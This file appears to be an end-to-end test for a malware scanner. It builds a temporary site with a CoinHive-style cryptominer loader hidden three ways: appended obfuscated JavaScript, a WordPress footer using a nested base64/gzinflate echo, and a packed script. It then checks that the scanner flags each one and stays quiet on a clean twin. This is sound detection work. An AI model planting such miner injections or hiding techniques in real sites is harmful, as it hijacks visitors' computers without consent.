// End-to-end: `minehunter scan --path SITE` over a site copy into which a CoinHive-style loader was
// injected three ways the plain rules cannot read (appended to a real minified main.js behind a
// string array, hex escapes and base64; echoed by a WordPress theme footer through
// base64_decode(gzinflate(base64_decode(...))); a p,a,c,k,e,d packed script) finds each as a
// web-script finding at medium or above with the decoded excerpt in its evidence, in the JSON and
// the text report; the clean twin (the same files without the injection, plus a normal minified
// framework bundle) gives nothing at medium or above. The sites are built here in a private temp dir.
import { readFileSync } from 'node:fs';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { levelRank, type Finding } from '../../src/model/finding.js';
import {
  MINER_LOADER,
  b64,
  gzdeflate,
  obfuscatedLoader,
  pack,
} from '../../src/engine/web-normalise/test-helpers.js';
import {
  REPO_ROOT,
  describeFinding,
  ensureBuilt,
  runCli,
  runCliJson,
  type ReportJson,
} from '../helpers/cli.js';
import { makeTempDir } from '../helpers/lookalike.js';

const nodeModules = (p: string): string => path.join(REPO_ROOT, 'node_modules', p);

/** A real minified bundle a site would serve as its main.js (zip.js is a dependency). */
const MAIN_BUNDLE = readFileSync(nodeModules('@zip.js/zip.js/index.min.js'), 'latin1');
/** A normal minified framework build beside it, in the clean twin. */
const FRAMEWORK_BUNDLE = readFileSync(nodeModules('ajv/dist/ajv.min.js'), 'latin1');

const INJECTION =
  '<script src="https://coinhive.com/lib/coinhive.min.js"></script>' +
  '<script>var miner = new CoinHive.Anonymous("SITE_KEY_0123456789", {throttle: 0.3}); miner.start();</script>';

/** Harmless page code, packed the same way in the clean twin: packing alone is no finding. */
const ANALYTICS =
  'var img=new Image();img.src="/stats/hit?page="+encodeURIComponent(location.pathname);' +
  'document.addEventListener("click",function(e){if(e.target.tagName==="A"){img.src="/stats/click";}});';

/** A theme footer as WordPress themes write it; `extra` is where an injection goes. */
function footer(extra = ''): string {
  return [
    '<?php',
    '/**',
    ' * The template for displaying the footer',
    ' *',
    ' * @package Example_Theme',
    ' */',
    '?>',
    '\t</div><!-- #content -->',
    '\t<footer id="colophon" class="site-footer">',
    '\t\t<div class="site-info">',
    "\t\t\t<a href=\"<?php echo esc_url( __( 'https://wordpress.org/', 'example' ) ); ?>\"><?php printf( esc_html__( 'Proudly powered by %s', 'example' ), 'WordPress' ); ?></a>",
    '\t\t</div>',
    '\t</footer>',
    '</div><!-- #page -->',
    '<?php wp_footer(); ?>',
    extra,
    '</body>',
    '</html>',
    '',
  ].join('\n');
}

/** Each injected file, the technique its decoded evidence must name, and text the excerpt shows. */
const INFECTED = [
  {
    file: 'js/main.js',
    content: `${MAIN_BUNDLE}\n${obfuscatedLoader({ style: 'checksum', rotation: 4 })}\n`,
    technique: 'js-string-array',
    excerpt: 'new CoinHive.Anonymous("SITE_KEY_0123456789"',
  },
  {
    file: 'wp-content/themes/t/footer.php',
    content: footer(
      `<?php echo base64_decode(gzinflate(base64_decode('${b64(gzdeflate(b64(INJECTION)))}'))); ?>`,
    ),
    technique: 'php:echo(base64_decode(gzinflate(base64_decode)))',
    excerpt: '<script src="https://coinhive.com/lib/coinhive.min.js">',
  },
  {
    file: 'js/stats.js',
    content: `${pack(MINER_LOADER)}\n`,
    technique: 'js-packer',
    excerpt: 'CoinHive.Anonymous',
  },
];

const CLEAN: { file: string; content: string }[] = [
  { file: 'js/main.js', content: `${MAIN_BUNDLE}\n` },
  { file: 'js/vendor.min.js', content: FRAMEWORK_BUNDLE },
  { file: 'wp-content/themes/t/footer.php', content: footer() },
  { file: 'js/stats.js', content: `${pack(ANALYTICS)}\n` },
  {
    file: 'index.html',
    content:
      '<!doctype html><html><head><title>Example</title><script src="js/vendor.min.js"></script>' +
      '<script src="js/main.js"></script><script src="js/stats.js"></script></head><body><p>Hello</p></body></html>\n',
  },
];

let dir: string;
let infected: ReportJson;
let clean: ReportJson;
let text: string;

async function writeSite(root: string, files: { file: string; content: string }[]): Promise<void> {
  for (const f of files) {
    await mkdir(path.dirname(path.join(root, f.file)), { recursive: true });
    await writeFile(path.join(root, f.file), f.content, 'latin1');
  }
}

const scanArgs = (site: string): string[] => ['scan', '--path', site, '--no-cache'];

beforeAll(async () => {
  await ensureBuilt();
  dir = await makeTempDir('minehunter-web-content-');
  await writeSite(path.join(dir, 'infected'), [...INFECTED, CLEAN[1]!, CLEAN[4]!]);
  await writeSite(path.join(dir, 'clean'), CLEAN);
  const opts = { timeoutMs: 120_000 };
  const [a, b, c] = await Promise.all([
    runCliJson([...scanArgs(path.join(dir, 'infected')), '--format', 'json'], opts),
    runCliJson([...scanArgs(path.join(dir, 'clean')), '--format', 'json'], opts),
    runCli([...scanArgs(path.join(dir, 'infected')), '--no-color', '--lang', 'en'], opts),
  ]);
  infected = a.json;
  clean = b.json;
  text = c.stdout;
}, 300_000);

afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

/** Findings about a file under `root` (the host's own findings are other tests' business). */
function siteFindings(report: ReportJson, root: string): Finding[] {
  return report.findings.filter((f) =>
    f.evidence.some((e) => e.type === 'file' && e.path.startsWith(`${root}/`)),
  );
}

const atLeastMedium = (f: Finding): boolean => levelRank(f.level) >= levelRank('medium');

describe('scan --path over an infected site', () => {
  it.each(INFECTED.map((i) => [i.file, i]))(
    '%s is a web-script finding at medium or above with the decoded excerpt',
    (_name, inj) => {
      const file = path.join(dir, 'infected', inj.file);
      const found = infected.findings.filter((f) =>
        f.evidence.some((e) => e.type === 'file' && e.path === file),
      );
      const listing = infected.findings.map(describeFinding).join('\n');
      expect(found, listing).toHaveLength(1);
      const f = found[0]!;
      expect(f.kind, listing).toBe('web-script');
      expect(atLeastMedium(f), `${f.level}\n${listing}`).toBe(true);
      const decoded = f.evidence.filter((e) => e.type === 'match' && e.field.includes('(decoded: '));
      expect(decoded.length, JSON.stringify(f.evidence, null, 2)).toBeGreaterThan(0);
      expect(decoded.some((e) => e.type === 'match' && e.field.includes(inj.technique))).toBe(true);
      expect(decoded.some((e) => e.type === 'match' && e.value.includes(inj.excerpt))).toBe(true);
    },
  );

  it('the verdict is infected with the web-script kind', () => {
    expect(infected.verdict.kinds.map((k) => k.kind)).toContain('web-script');
  });

  it('the clean files beside the injections give nothing at medium or above', () => {
    const root = path.join(dir, 'infected');
    const others = siteFindings(infected, root).filter(
      (f) =>
        atLeastMedium(f) &&
        !f.evidence.some(
          (e) => e.type === 'file' && INFECTED.some((i) => e.path === path.join(root, i.file)),
        ),
    );
    expect(others.map(describeFinding)).toEqual([]);
  });

  it('the text report shows the decoding chain and the decoded excerpt', () => {
    expect(text).toContain('(decoded: ');
    expect(text).toContain('new CoinHive.Anonymous("SITE_KEY_0123456789"');
    expect(text).toContain('<script src="https://coinhive.com/lib/coinhive.min.js">');
  });
});

describe('scan --path over the clean twin', () => {
  it('gives nothing at medium or above', () => {
    const found = siteFindings(clean, path.join(dir, 'clean'));
    expect(found.filter(atLeastMedium).map(describeFinding)).toEqual([]);
    // Nothing decoded in the clean site matched at all, at any level.
    const decoded = found.flatMap((f) =>
      f.evidence.filter((e) => e.type === 'match' && e.field.includes('(decoded: ')),
    );
    expect(decoded).toEqual([]);
  });
});
